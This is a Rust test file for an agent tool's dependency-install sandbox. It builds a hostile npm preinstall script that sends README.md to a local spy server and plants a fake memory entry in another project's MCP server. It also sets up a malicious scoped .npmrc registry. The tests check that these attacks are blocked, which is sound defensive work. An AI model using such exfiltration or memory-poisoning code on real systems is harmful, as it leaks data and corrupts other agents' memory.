//! A repository whose packages and scripts want the network while dependencies are brought.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::thread;

use gavel_domain::{HostRefusal, VerifyFinished};
use serde_json::Value;

use crate::bench::{Bench, run_id};
use crate::product_hot::project;
use crate::studio::Studio;

/// Answers one package, `left`, and keeps the paths that were asked for.
#[derive(Clone)]
pub(crate) struct Registry {
    pub(crate) url: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Registry {
    pub(crate) fn start(archive: Vec<u8>) -> Self {
        Self::start_with(archive, "")
    }

    /// The same for a package of which it says more.
    pub(crate) fn start_with(archive: Vec<u8>, more: &'static str) -> Self {
        Self::start_at(0, archive, more)
    }

    /// The same at a port that is known; at any one for 0.
    pub(crate) fn start_at(port: u16, archive: Vec<u8>, more: &'static str) -> Self {
        let listener = TcpListener::bind(("127.0.0.1", port)).unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let (own, seen) = (url.clone(), Arc::clone(&asked));
        thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let path = path_of(&stream);
                seen.lock().unwrap().push(path.clone());
                let body = match path.as_str() {
                    "/left" => format!(
                        r#"{{"name":"left","dist-tags":{{"latest":"1.0.0"}},"versions":{{"1.0.0":{{"name":"left","version":"1.0.0"{more},"dist":{{"tarball":"{own}/left.tgz"}}}}}}}}"#
                    )
                    .into_bytes(),
                    "/left.tgz" => archive.clone(),
                    _ => Vec::new(),
                };
                answer(stream, &body);
            }
        });
        Self { url, asked }
    }

    pub(crate) fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }

    pub(crate) fn port(&self) -> u16 {
        self.url.rsplit(':').next().unwrap().parse().unwrap()
    }
}

fn path_of(stream: &TcpStream) -> String {
    let mut lines = BufReader::new(stream).lines().map_while(Result::ok);
    let first = lines.next().unwrap_or_default();
    drop(lines.find(String::is_empty));
    first.split(' ').nth(1).unwrap_or_default().to_owned()
}

fn answer(mut stream: TcpStream, body: &[u8]) {
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    // Whoever hangs up early has asked all the same.
    drop(stream.write_all(&[head.as_bytes(), body].concat()));
}

/// Another project's `gavel mcp --http`, open to guests.
struct OtherProject {
    bench: Bench,
    child: Child,
    url: String,
}

impl OtherProject {
    fn start() -> Self {
        let bench = Bench::new();
        assert_eq!(bench.run(&["init"]).code, Some(0));
        let mut command = bench.command(&["--json", "mcp", "--http", "127.0.0.1:0"]);
        let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
        let mut line = String::new();
        let mut output = BufReader::new(child.stdout.take().unwrap());
        output.read_line(&mut line).unwrap();
        let told: Value = serde_json::from_str(&line).unwrap();
        let url = told["url"].as_str().unwrap().to_owned();
        Self { bench, child, url }
    }

    fn remembers(&self) -> bool {
        let told = self.bench.json(&["memory", "list", "--proposed"]);
        told.to_string().contains("planted by a package")
    }
}

impl Drop for OtherProject {
    fn drop(&mut self) {
        drop(self.child.kill());
        drop(self.child.wait());
    }
}

/// Sends the repository's text to the spy, and adds memory to another project as a guest.
fn tell(spy: &Registry, other: &OtherProject) -> String {
    format!(
        r#"const http = require('http');
http.get('{spy}/' + require('fs').readFileSync('README.md').toString('hex')).on('error', () => {{}});
const body = JSON.stringify({{jsonrpc: '2.0', id: 1, method: 'tools/call', params: {{name: 'gavel_memory_add',
  arguments: {{kind: 'trap', text: 'planted by a package', tags: 'x'}},
  _meta: {{'io.modelcontextprotocol/protocolVersion': '2026-07-28',
    'io.modelcontextprotocol/clientInfo': {{name: 'evil', version: '1'}}, 'io.modelcontextprotocol/clientCapabilities': {{}}}}}}}});
const asked = http.request('{other}', {{method: 'POST', headers: {{'Content-Type': 'application/json',
  'Accept': 'application/json, text/event-stream', 'MCP-Protocol-Version': '2026-07-28',
  'Mcp-Method': 'tools/call', 'Mcp-Name': 'gavel_memory_add', 'Content-Length': Buffer.byteLength(body)}}}}, r => r.resume());
asked.on('error', () => {{}});
asked.end(body);
"#,
        spy = spy.url,
        other = other.url
    )
}

pub(crate) fn packed(folder: &Path) -> Vec<u8> {
    packed_with(folder, "")
}

/// The same with more in its manifest, and with the files that are in its folder.
#[expect(clippy::disallowed_methods, reason = "the fixture packs an archive")]
pub(crate) fn packed_with(folder: &Path, more: &str) -> Vec<u8> {
    let package = folder.join("package");
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(
        package.join("package.json"),
        format!(r#"{{"name":"left","version":"1.0.0"{more}}}"#),
    )
    .unwrap();
    std::fs::write(package.join("index.js"), "module.exports = 1;\n").unwrap();
    let mut tar = Command::new("tar");
    let tar = tar.args(["-czf", "-", "package"]).current_dir(folder);
    let mut child = tar.stdout(Stdio::piped()).spawn().unwrap();
    let mut archive = Vec::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_end(&mut archive)
        .unwrap();
    assert!(child.wait().unwrap().success());
    archive
}

pub(crate) const README: &str = "# Left\n\nYou will recieve teh left side.\n";
pub(crate) const TEST: &str =
    "require('node:test')('left', () => { if (require('left') !== 1) throw 1; });\n";

/// A studio whose person has a registry of their own.
pub(crate) fn studio_with(registry: &Registry) -> Studio {
    let studio = Studio::offline();
    let npmrc = studio.bench.folder().join("home/.npmrc");
    std::fs::create_dir_all(npmrc.parent().unwrap()).unwrap();
    std::fs::write(npmrc, format!("registry={}/\n", registry.url)).unwrap();
    studio
}

fn mend_typos(studio: &Studio) -> crate::bench::Ended {
    let id = run_id().to_string();
    studio.run(&["start", "fix the typos in README.md", "--run", &id, "--yes"])
}

#[test]
fn a_script_of_the_repository_has_no_network_while_dependencies_come() {
    let folder = tempfile::tempdir().unwrap();
    let (registry, spy) = (
        Registry::start(packed(folder.path())),
        Registry::start(Vec::new()),
    );
    let other = OtherProject::start();
    let studio = studio_with(&registry);
    let script = tell(&spy, &other);
    let manifest = r#"{"name":"demo","version":"1.0.0","scripts":{"test":"node --test","preinstall":"node tell.js"},"dependencies":{"left":"1.0.0"}}"#;
    let files = [
        ("package.json", manifest),
        ("tell.js", &script),
        ("README.md", README),
        ("left.test.js", TEST),
        (".gitignore", "node_modules\n"),
    ];
    let tree = project(&studio, &files);
    let ended = mend_typos(&studio);
    // The twin is the same run: its dependency came, its test ran, and the change is sealed.
    assert_eq!(ended.code, Some(0), "{ended:?}");
    assert_eq!(spy.asked(), Vec::<String>::new(), "{ended:?}");
    assert!(!other.remembers(), "{ended:?}");
    assert!(registry.asked().contains(&"/left.tgz".to_owned()));
    let verified = studio.look().facts::<VerifyFinished>();
    for fact in &verified {
        let [fetched, scripts] = fact.install.as_slice() else {
            panic!("{fact:?}");
        };
        assert_eq!(
            fetched.command,
            "npm install --no-package-lock --ignore-scripts"
        );
        assert_eq!(
            (fetched.offline, fetched.hosts.len()),
            (false, 1),
            "{fact:?}"
        );
        assert_eq!(fetched.hosts[0].port, registry.port());
        assert!(fetched.hosts[0].received > 0);
        assert_eq!((scripts.offline, scripts.exit), (true, Some(0)), "{fact:?}");
    }
    assert!(!verified.is_empty());
    // The script does all of that where nothing holds it.
    #[expect(
        clippy::disallowed_methods,
        reason = "this is the attack without walls"
    )]
    let free = Command::new("node")
        .arg("tell.js")
        .current_dir(tree)
        .status();
    assert!(free.unwrap().success());
    assert_eq!(spy.asked().len(), 1);
    assert!(other.remembers());
}

#[test]
fn a_registry_that_a_repository_names_is_refused_and_named() {
    let (registry, spy) = (Registry::start(Vec::new()), Registry::start(Vec::new()));
    let studio = studio_with(&registry);
    let npmrc = format!("registry={}/\nfetch-retries=0\n", spy.url);
    let manifest = r#"{"name":"demo","version":"1.0.0","scripts":{"test":"node --test"},"dependencies":{"@evil/left":"1.0.0"}}"#;
    let scoped = format!("{npmrc}@evil:registry={}/\n", spy.url);
    let files = [
        ("package.json", manifest),
        (".npmrc", &scoped),
        ("README.md", README),
        ("left.test.js", "require('node:test')('a', () => {});\n"),
    ];
    project(&studio, &files);
    let ended = mend_typos(&studio);
    assert_eq!(spy.asked(), Vec::<String>::new(), "{ended:?}");
    let verified = studio.look().facts::<VerifyFinished>();
    let refused = verified
        .iter()
        .flat_map(|fact| &fact.install)
        .flat_map(|step| &step.refused);
    let refused: Vec<_> = refused.map(|row| (row.port, row.reason)).collect();
    assert!(
        refused.contains(&(spy.port(), HostRefusal::NotAllowed)),
        "{verified:?}"
    );
    // A project's own file cannot allow it.
    let file = studio.bench.project_file();
    std::fs::write(file, "[install]\nhosts = [\"127.0.0.1\"]\n").unwrap();
    let shown = studio.run(&["config", "show"]);
    assert_eq!(shown.code, Some(2), "{shown:?}");
    assert!(shown.stderr.contains("install.hosts"), "{shown:?}");
}
